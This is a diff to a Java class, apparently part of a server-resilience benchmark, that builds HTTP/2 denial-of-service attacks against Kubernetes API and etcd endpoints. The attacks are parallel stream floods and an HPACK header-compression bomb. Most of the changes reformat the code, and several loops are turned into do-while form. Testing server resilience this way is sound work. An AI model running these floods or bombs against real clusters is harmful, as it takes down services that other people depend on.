@@ -4,7 +4,6 @@ import dev.pintle.bench.client.Http2Connection;
 import dev.pintle.bench.client.Http2Frames;
 import dev.pintle.bench.client.ServerAddress;
 import java.io.IOException;
-import java.io.OutputStream;
 import java.util.ArrayList;
 import java.util.Arrays;
 import java.util.List;
@@ -52,18 +51,43 @@ public final class StreamAttacks {
       return switch (this) {
         case KUBE ->
             Http2Frames.block(
-                ":method", "PUT", ":scheme", "https", ":authority", "x",
-                ":path", "/api/v1/namespaces/default/configmaps/x", "content-type", "application/json");
+                ":method",
+                "PUT",
+                ":scheme",
+                "https",
+                ":authority",
+                "x",
+                ":path",
+                "/api/v1/namespaces/default/configmaps/x",
+                "content-type",
+                "application/json");
         case ETCD ->
             Http2Frames.block(
-                ":method", "POST", ":scheme", "http", ":authority", "x",
-                ":path", "/etcdserverpb.KV/Put", "content-type", "application/grpc", "te", "trailers");
+                ":method",
+                "POST",
+                ":scheme",
+                "http",
+                ":authority",
+                "x",
+                ":path",
+                "/etcdserverpb.KV/Put",
+                "content-type",
+                "application/grpc",
+                "te",
+                "trailers");
       };
     }
 
     byte[] get() {
       return Http2Frames.block(
-          ":method", "GET", ":scheme", this == KUBE ? "https" : "http", ":authority", "x", ":path", "/version");
+          ":method",
+          "GET",
+          ":scheme",
+          this == KUBE ? "https" : "http",
+          ":authority",
+          "x",
+          ":path",
+          "/version");
     }
   }
 
@@ -81,7 +105,8 @@ public final class StreamAttacks {
           strike.inParallel(
               CONNECTIONS,
               _ -> {
-                Http2Connection connection = strike.keep(Http2Connection.open(side.of(strike.victim())));
+                Http2Connection connection =
+                    strike.keep(Http2Connection.open(side.of(strike.victim())));
                 for (int i = 0; i < each && !connection.ended(); i += BATCH) {
                   Http2Frames frames = new Http2Frames();
                   for (int j = i; j < i + BATCH; j++) {
@@ -104,9 +129,10 @@ public final class StreamAttacks {
                 FEW,
                 _ -> {
                   ServerAddress at = side.of(strike.victim());
-                  while (strike.goesOn()) {
-                    strike.count(reads ? heard(strike, at, side, round) : unheard(strike, at, side, round));
-                  }
+                  do {
+                    strike.count(
+                        reads ? heard(strike, at, side, round) : unheard(strike, at, side, round));
+                  } while (strike.goesOn());
                 }),
         HELD);
   }
@@ -114,12 +140,12 @@ public final class StreamAttacks {
   private static String heard(Strike strike, ServerAddress at, Side side, Round round) {
     try (Http2Connection connection = Http2Connection.open(at)) {
       int stream = 1;
-      while (strike.goesOn() && !connection.ended()) {
+      do {
         Http2Frames frames = new Http2Frames();
         round.write(frames, side, stream);
         connection.write(frames.done());
         stream += 2 * BATCH;
-      }
+      } while (strike.goesOn() && !connection.ended());
       return connection.ended() ? "goaway" : "open";
     } catch (IOException ended) {
       return "closed";
@@ -132,18 +158,17 @@ public final class StreamAttacks {
     Http2Connection connection = strike.keep(Http2Connection.deaf(at));
     Thread writer =
         Thread.ofVirtual()
-            .start(
-                () -> {
-                  try {
-                    for (int stream = 1; strike.goesOn(); stream += 2 * BATCH) {
-                      Http2Frames frames = new Http2Frames();
-                      round.write(frames, side, stream);
-                      connection.write(frames.done());
-                    }
-                  } catch (IOException ended) {
-                    strike.count("closed");
-                  }
-                });
+            .start(() -> {
+              try {
+                for (int stream = 1; strike.goesOn(); stream += 2 * BATCH) {
+                  Http2Frames frames = new Http2Frames();
+                  round.write(frames, side, stream);
+                  connection.write(frames.done());
+                }
+              } catch (IOException ended) {
+                strike.count("closed");
+              }
+            });
     writer.join(strike.remaining());
     return "open";
   }
@@ -162,7 +187,8 @@ public final class StreamAttacks {
 
   private static void bomb(Http2Frames frames, Side side, int stream) {
     if (stream == 1) {
-      frames.headers(stream, concat(side.get(), Http2Frames.remembered("x", "y".repeat(3900))), true);
+      frames.headers(
+          stream, concat(side.get(), Http2Frames.remembered("x", "y".repeat(3900))), true);
       return;
     }
     byte[] again = new byte[BLOCK_BYTES];
